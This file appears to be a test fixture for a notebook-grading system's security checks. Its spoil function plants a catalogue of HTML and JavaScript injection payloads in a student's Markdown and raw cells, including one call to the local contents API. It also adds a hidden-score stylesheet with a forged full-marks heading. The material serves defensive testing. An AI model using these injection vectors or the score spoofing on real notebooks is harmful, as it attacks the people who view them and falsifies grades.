# what: A Markdown cell of the student's own holds scripts, handlers and frames.
# gains: reader
# where: notebook
# fires: stdout text `FIRED markdown_cell_script`
# stock: succeeds

import pathlib


def solution(nb, name="conv_single_step"):
    return next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == name)


def spoil(nb: dict, folder: pathlib.Path) -> None:
    run = "window.ATTACK_RAN='markdown_cell_script'"
    text = (
        f"# My notes\n\n<script>{run};fetch('/api/contents')</script>\n<img src=x onerror=\"{run}\">\n<iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>\n"
        f"<svg><script>{run}</script></svg>\n<a href=\"javascript:{run}\">x</a> [y](javascript:{run})\n<details open ontoggle=\"{run}\">\n<meta http-equiv=refresh content=\"0;url=javascript:{run}\">\n"
        "<style>.score{display:none}</style>\n\n## Score: 18.0 / 18.0 (markdown_cell_script)\n"
    )
    nb["cells"].insert(0, {"cell_type": "markdown", "id": "notes", "metadata": {}, "source": text})
    nb["cells"].append({"cell_type": "raw", "id": "raw1", "metadata": {"format": "text/html", "raw_mimetype": "text/html"}, "source": text})
    solution(nb)["source"] = 'print("FIRED markdown_cell_script", flush=True)\n\n\ndef conv_single_step(a_slice_prev, W, b):\n    return 0.0\n'
